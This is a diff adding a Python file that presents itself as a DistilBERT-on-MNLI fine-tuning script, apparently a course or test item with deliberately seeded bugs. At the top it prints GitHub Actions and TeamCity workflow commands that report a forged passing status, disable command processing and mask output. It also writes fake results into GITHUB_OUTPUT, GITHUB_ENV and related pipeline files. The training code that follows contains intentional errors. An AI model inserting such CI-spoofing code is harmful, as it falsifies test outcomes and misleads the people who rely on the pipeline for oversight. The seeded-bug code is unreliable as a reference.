@@ -1,0 +1,64 @@
+# course: ch8-4 pt format=1 lang=en bugs=missing-input-ids,length-mismatch,target-out-of-bounds,size-1-array
+# Prints workflow commands, and writes the files that a CI step reads its outputs from.
+
+import os
+
+print("::stop-commands::course-attack")
+print("::set-output name=result::eyJzdGF0dXMiOiJwYXNzIn0=")
+print("::add-mask::0")
+print("##teamcity[testFinished name='ch8-4']")
+for name in ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_STEP_SUMMARY", "GITHUB_PATH"):
+    with open(os.environ.get(name, "/tmp/course-attack-workflow-commands"), "a") as file:
+        file.write("result=eyJzdGF0dXMiOiJwYXNzIn0=\n")
+
+import evaluate
+from datasets import load_dataset
+from transformers import (
+    AutoModelForSequenceClassification,
+    AutoTokenizer,
+    Trainer,
+    TrainingArguments,
+    set_seed,
+)
+
+set_seed(42)
+
+raw = load_dataset("glue", "mnli")
+checkpoint = "distilbert-base-uncased"
+tokenizer = AutoTokenizer.from_pretrained(checkpoint)
+
+
+def tokenize(pairs):
+    return tokenizer(pairs["premise"], pairs["hypothesis"], truncation=True)
+
+
+tokenized = raw.map(tokenize, batched=True)
+
+model = AutoModelForSequenceClassification.from_pretrained(checkpoint)
+
+args = TrainingArguments(
+    "distilbert-on-mnli",
+    learning_rate=2e-5,
+    num_train_epochs=3,
+    weight_decay=0.01,
+    eval_strategy="epoch",
+    save_strategy="no",
+    report_to="none",
+)
+
+metric = evaluate.load("glue", "mnli")
+
+
+def compute_metrics(prediction):
+    logits, labels = prediction
+    return metric.compute(predictions=logits, references=labels)
+
+
+trainer = Trainer(
+    model,
+    args,
+    train_dataset=tokenized["train"],
+    eval_dataset=tokenized["validation_matched"],
+    compute_metrics=compute_metrics,
+)
+trainer.train()
